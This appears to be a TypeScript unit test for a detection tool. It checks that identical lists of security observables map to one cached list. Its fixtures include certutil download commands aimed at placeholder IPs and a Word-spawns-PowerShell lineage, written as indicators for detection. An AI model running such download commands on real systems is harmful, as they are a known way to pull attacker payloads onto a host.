import { observableEvents } from './observable-events';
import { sameObservables } from './same-observables';

describe('one list object per content of observables', () => {
  const observables = [
    { type: 'cmdline', value: 'certutil -urlcache -split -f http://198.51.100.7/a.txt a.txt' },
    { type: 'process_lineage', value: 'winword.exe -> powershell.exe', attributes: { parent: 'winword.exe', child: 'powershell.exe' } },
  ];

  it('maps a copy (a bus request) to the list first seen, whose telemetry is then worked out once', () => {
    const first = sameObservables(observables);
    const copy = JSON.parse(JSON.stringify(observables)) as typeof observables;
    expect(first).toBe(observables);
    expect(sameObservables(copy)).toBe(observables);
    expect(observableEvents(sameObservables(copy), { product: 'windows' })).toBe(observableEvents(observables, { product: 'windows' }));
  });

  it('keeps lists apart when a value or an attribute differs', () => {
    const otherValue = [{ ...observables[0], value: 'certutil -urlcache -f http://198.51.100.8/b.txt b.txt' }, observables[1]];
    const otherAttribute = [observables[0], { ...observables[1], attributes: { parent: 'excel.exe', child: 'powershell.exe' } }];
    expect(sameObservables(otherValue)).toBe(otherValue);
    expect(sameObservables(otherAttribute)).toBe(otherAttribute);
  });
});
